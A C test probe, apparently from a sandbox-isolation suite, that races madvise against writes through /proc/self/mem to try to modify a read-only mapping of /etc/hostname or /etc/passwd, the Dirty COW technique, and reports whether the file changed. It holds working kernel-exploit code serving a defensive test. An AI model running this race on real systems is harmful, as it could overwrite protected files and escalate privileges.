// tries: Race madvise against writes through /proc/self/mem to a read-only file's private mapping (as "Dirty COW").
// gvisor: denied
// container: denied
// timeout: 20
#include "verdict.h"
#include <pthread.h>
#include <sys/mman.h>

static char *map;
static int mem;
static volatile int over;

static void *forget(void *unused) {
    while (!over) madvise(map, 4096, MADV_DONTNEED);
    return unused;
}

int main(void) {
    int file = open("/etc/hostname", O_RDONLY);
    if (file < 0) file = open("/etc/passwd", O_RDONLY);
    map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    mem = open("/proc/self/mem", O_RDWR);
    if (mem < 0) denied("/proc/self/mem: %s", strerror(errno));
    char before[8] = {0}, after[8] = {0};
    pread(file, before, 7, 0);
    pthread_t thread;
    pthread_create(&thread, NULL, forget, NULL);
    for (int i = 0; i < 20000; i++) pwrite(mem, "OVERRUN", 7, (off_t)map);
    over = 1;
    pthread_join(thread, NULL);
    pread(file, after, 7, 0);
    if (memcmp(before, after, 7)) escaped("a read-only file was written");
    denied("the file is as it was");
}
